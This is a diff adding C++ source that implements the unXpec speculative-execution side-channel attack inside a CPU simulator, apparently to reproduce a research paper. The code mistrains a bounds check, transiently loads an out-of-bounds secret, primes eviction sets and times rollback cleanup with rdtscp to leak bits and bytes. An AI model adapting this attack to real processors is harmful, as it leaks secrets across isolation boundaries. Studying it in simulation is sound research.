@@ -1,0 +1,321 @@
+#include "attack/unxpec.hh"
+
+#include <algorithm>
+
+#include "attack/channel.hh"
+#include "attack/eviction_set.hh"
+#include "sim/log.hh"
+
+namespace unxpec {
+
+namespace {
+
+// Register allocation for the attack program.
+constexpr RegIndex rIdx = 1;      // index for the current trial
+constexpr RegIndex rBound = 2;    // f(N) chain / bound value
+constexpr RegIndex rSecret = 3;   // transiently loaded secret
+constexpr RegIndex rP = 4;        // P base
+constexpr RegIndex rA = 5;        // A base
+constexpr RegIndex rIdxTab = 6;   // index-table base
+constexpr RegIndex rLatTab = 7;   // latency-result base
+constexpr RegIndex rTmp0 = 8;
+constexpr RegIndex rTmp1 = 9;
+constexpr RegIndex rTmp2 = 10;
+constexpr RegIndex rScaled = 11;  // secret * 64
+constexpr RegIndex rTmp3 = 12;
+constexpr RegIndex rPtr = 13;     // walking pointer over P
+constexpr RegIndex rTmp4 = 14;
+constexpr RegIndex rDelta = 15;   // measured latency
+constexpr RegIndex rTmp5 = 16;
+constexpr RegIndex rTrial = 17;   // trial counter
+constexpr RegIndex rTrials = 18;  // trial count
+constexpr RegIndex rChain = 19;   // f(N) chain base
+constexpr RegIndex rT0Tab = 20;   // t0-result base
+constexpr RegIndex rT0 = 24;      // first timestamp
+constexpr RegIndex rT1 = 25;      // second timestamp
+
+} // namespace
+
+UnxpecAttack::UnxpecAttack(Core &core, const UnxpecConfig &cfg)
+    : core_(core), cfg_(cfg)
+{
+    if (cfg_.inBranchLoads == 0)
+        fatal("UnxpecAttack: need at least one in-branch load");
+    if (cfg_.conditionAccesses == 0)
+        fatal("UnxpecAttack: f(N) needs at least one access");
+    trials_ = cfg_.mistrainIterations + 1;
+    buildProgram();
+}
+
+void
+UnxpecAttack::buildProgram()
+{
+    const unsigned n = cfg_.inBranchLoads;
+    const unsigned c = cfg_.conditionAccesses;
+    ProgramBuilder b;
+
+    // ---- data segment ------------------------------------------------
+    pBase_ = b.alloc(kLineBytes * (n + 1));
+    aBase_ = b.alloc(kLineBytes);
+    secretAddr_ = b.alloc(kLineBytes);
+    chainBase_ = b.alloc(kLineBytes * c);
+    idxBase_ = b.alloc(8 * trials_);
+    latBase_ = b.alloc(8 * trials_);
+    t0Base_ = b.alloc(8 * trials_);
+
+    // A[0] = 0: training rounds transmit "secret 0" (loads hit P[0]).
+    b.initByte(aBase_, 0);
+    // Out-of-bounds index reaching the victim's secret byte.
+    const std::uint64_t oob_index = secretAddr_ - aBase_;
+    // f(N) pointer chase; the last element holds the bound (1), so the
+    // trained in-bounds index 0 satisfies index < bound.
+    for (unsigned j = 0; j + 1 < c; ++j)
+        b.initWord64(chainBase_ + j * kLineBytes,
+                     chainBase_ + (j + 1) * kLineBytes);
+    b.initWord64(chainBase_ + (c - 1) * kLineBytes, 1);
+    // Index table: POISON uses in-bounds 0; the final trial goes
+    // out of bounds.
+    for (unsigned t = 0; t + 1 < trials_; ++t)
+        b.initWord64(idxBase_ + 8 * t, 0);
+    b.initWord64(idxBase_ + 8 * (trials_ - 1), oob_index);
+
+    if (cfg_.useEvictionSets) {
+        const unsigned l1_sets = core_.config().l1d.numSets();
+        const unsigned l1_ways = core_.config().l1d.ways;
+        const Addr pool =
+            b.alloc(static_cast<std::size_t>(l1_sets) * l1_ways *
+                    kLineBytes * 2);
+        evictionAddrs_.clear();
+        for (unsigned k = 1; k <= n; ++k) {
+            const auto set_addrs = EvictionSet::direct(
+                pBase_ + k * kLineBytes, l1_sets, l1_ways, pool);
+            evictionAddrs_.insert(evictionAddrs_.end(), set_addrs.begin(),
+                                  set_addrs.end());
+        }
+    }
+
+    // ---- code ----------------------------------------------------------
+    b.li(rP, static_cast<std::int64_t>(pBase_));
+    b.li(rA, static_cast<std::int64_t>(aBase_));
+    b.li(rIdxTab, static_cast<std::int64_t>(idxBase_));
+    b.li(rLatTab, static_cast<std::int64_t>(latBase_));
+    b.li(rT0Tab, static_cast<std::int64_t>(t0Base_));
+    b.li(rChain, static_cast<std::int64_t>(chainBase_));
+    b.li(rTrial, 0);
+    b.li(rTrials, trials_);
+
+    // Sender-side warmup: the victim touches its own secret, so the
+    // transient secret load hits and the dependent loads issue early.
+    b.li(rTmp0, static_cast<std::int64_t>(secretAddr_));
+    b.load(rTmp1, rTmp0, 0, 1);
+
+    // Prime P[64*k]'s L1 sets with the eviction set (§V-B). Rollback
+    // restores displaced lines, so in a quiet machine priming once
+    // keeps the sets primed for every subsequent round (§VI-B).
+    for (const Addr addr : evictionAddrs_) {
+        b.li(rTmp0, static_cast<std::int64_t>(addr));
+        b.load(rTmp1, rTmp0);
+    }
+    // Bring P[0] in once.
+    b.load(rTmp1, rP);
+
+    const int loop_top = b.label();
+    const int skip = b.label();
+    b.bind(loop_top);
+
+    // index = idxTable[trial]
+    b.shl(rTmp0, rTrial, 3);
+    b.add(rTmp0, rTmp0, rIdxTab);
+    b.load(rIdx, rTmp0);
+
+    // Flush the f(N) chain (clflush &N of §VI-A) and P[64*1..64*n].
+    for (unsigned j = 0; j < c; ++j)
+        b.clflush(rChain, static_cast<std::int64_t>(j) * kLineBytes);
+    for (unsigned k = 1; k <= n; ++k)
+        b.clflush(rP, static_cast<std::int64_t>(k) * kLineBytes);
+    // (Re-)load P[0]: secret 0 must produce all-hits.
+    b.load(rTmp1, rP);
+
+    // Measurement stage: fence zeroes out T4, then t0.
+    b.fence();
+    b.rdtscp(rT0);
+
+    // Branch condition: pointer-chase f(N)...
+    b.mov(rBound, rChain);
+    for (unsigned j = 0; j < c; ++j)
+        b.load(rBound, rBound);
+    // ...plus dependent padding so resolution covers the transient
+    // loads' fills.
+    for (unsigned p = 0; p < cfg_.conditionPadding; ++p)
+        b.addi(rBound, rBound, 0);
+
+    // if (index < bound) { transient body } — trained not-taken.
+    b.bge(rIdx, rBound, skip);
+
+    // Transient body: secret = A[index]; load P[secret*64*k].
+    b.add(rTmp2, rA, rIdx);
+    b.load(rSecret, rTmp2, 0, 1);
+    b.shl(rScaled, rSecret, 6);
+    b.mov(rPtr, rP);
+    for (unsigned k = 1; k <= n; ++k) {
+        b.add(rPtr, rPtr, rScaled);
+        b.load(rTmp4, rPtr);
+    }
+
+    b.bind(skip);
+    b.rdtscp(rT1);
+    b.sub(rDelta, rT1, rT0);
+
+    // Record latency and t0 for this trial.
+    b.shl(rTmp5, rTrial, 3);
+    b.add(rTmp3, rTmp5, rLatTab);
+    b.store(rTmp3, 0, rDelta);
+    b.add(rTmp3, rTmp5, rT0Tab);
+    b.store(rTmp3, 0, rT0);
+
+    b.addi(rTrial, rTrial, 1);
+    b.blt(rTrial, rTrials, loop_top);
+    b.halt();
+
+    program_ = b.build();
+    dataLoaded_ = false;
+}
+
+void
+UnxpecAttack::setSecret(int bit)
+{
+    core_.mem().write8(secretAddr_, bit ? 1 : 0);
+}
+
+double
+UnxpecAttack::measureOnce()
+{
+    CleanupEngine &engine = core_.cleanup();
+    engine.clearLog();
+    engine.enableLog(true);
+
+    RunOptions options;
+    options.loadData = !dataLoaded_;
+    const RunResult result = core_.run(program_, options);
+    dataLoaded_ = true;
+    engine.enableLog(false);
+
+    ++totalRuns_;
+    totalCycles_ += result.cycles;
+
+    const unsigned final_trial = trials_ - 1;
+    const double latency = static_cast<double>(
+        core_.mem().read64(latBase_ + 8 * final_trial));
+    const Cycle t0 = core_.mem().read64(t0Base_ + 8 * final_trial);
+
+    last_ = RoundDetail{};
+    last_.latency = latency;
+    last_.t0 = t0;
+    for (const SquashLog &log : engine.log()) {
+        if (log.cycle >= t0 &&
+            log.cycle <= t0 + static_cast<Cycle>(latency)) {
+            last_.branchResolution = log.cycle - t0;
+            last_.cleanupStall = log.stall;
+            last_.invalidationsL1 = log.l1Invalidations;
+            last_.invalidationsL2 = log.l2Invalidations;
+            last_.restores = log.restores;
+            last_.valid = true;
+            break;
+        }
+    }
+    return latency;
+}
+
+std::vector<double>
+UnxpecAttack::collect(int secret, unsigned samples)
+{
+    setSecret(secret);
+    std::vector<double> measurements;
+    measurements.reserve(samples);
+    for (unsigned i = 0; i < samples; ++i)
+        measurements.push_back(measureOnce());
+    return measurements;
+}
+
+double
+UnxpecAttack::calibrate(unsigned samples_per_secret)
+{
+    const auto zeros = collect(0, samples_per_secret);
+    const auto ones = collect(1, samples_per_secret);
+    return CovertChannel::calibrateThreshold(zeros, ones);
+}
+
+LeakResult
+UnxpecAttack::leak(const std::vector<int> &secret_bits, double threshold)
+{
+    LeakResult result;
+    result.guesses.reserve(secret_bits.size());
+    result.latencies.reserve(secret_bits.size());
+    for (const int bit : secret_bits) {
+        setSecret(bit);
+        const double latency = measureOnce();
+        result.latencies.push_back(latency);
+        result.guesses.push_back(CovertChannel::decode(latency, threshold));
+    }
+    result.accuracy = CovertChannel::accuracy(result.guesses, secret_bits);
+    return result;
+}
+
+LeakResult
+UnxpecAttack::leakMultiSample(const std::vector<int> &secret_bits,
+                              double threshold, unsigned samples_per_bit)
+{
+    if (samples_per_bit == 0)
+        fatal("UnxpecAttack::leakMultiSample: need at least one sample");
+    LeakResult result;
+    result.guesses.reserve(secret_bits.size());
+    result.latencies.reserve(secret_bits.size());
+    for (const int bit : secret_bits) {
+        setSecret(bit);
+        std::vector<double> samples;
+        samples.reserve(samples_per_bit);
+        for (unsigned s = 0; s < samples_per_bit; ++s)
+            samples.push_back(measureOnce());
+        result.latencies.push_back(samples.front());
+        result.guesses.push_back(
+            CovertChannel::decodeMajority(samples, threshold));
+    }
+    result.accuracy = CovertChannel::accuracy(result.guesses, secret_bits);
+    return result;
+}
+
+std::vector<std::uint8_t>
+UnxpecAttack::leakBytes(const std::vector<std::uint8_t> &secret,
+                        double threshold, unsigned samples_per_bit)
+{
+    std::vector<int> bits;
+    bits.reserve(secret.size() * 8);
+    for (const std::uint8_t byte : secret) {
+        for (int bit = 7; bit >= 0; --bit)
+            bits.push_back((byte >> bit) & 1);
+    }
+    const LeakResult result = samples_per_bit <= 1
+        ? leak(bits, threshold)
+        : leakMultiSample(bits, threshold, samples_per_bit);
+
+    std::vector<std::uint8_t> received;
+    received.reserve(secret.size());
+    for (std::size_t i = 0; i < secret.size(); ++i) {
+        std::uint8_t byte = 0;
+        for (unsigned bit = 0; bit < 8; ++bit)
+            byte = static_cast<std::uint8_t>(
+                (byte << 1) | result.guesses[i * 8 + bit]);
+        received.push_back(byte);
+    }
+    return received;
+}
+
+double
+UnxpecAttack::cyclesPerSample() const
+{
+    return totalRuns_ == 0
+        ? 0.0
+        : static_cast<double>(totalCycles_) / totalRuns_;
+}
+
+} // namespace unxpec
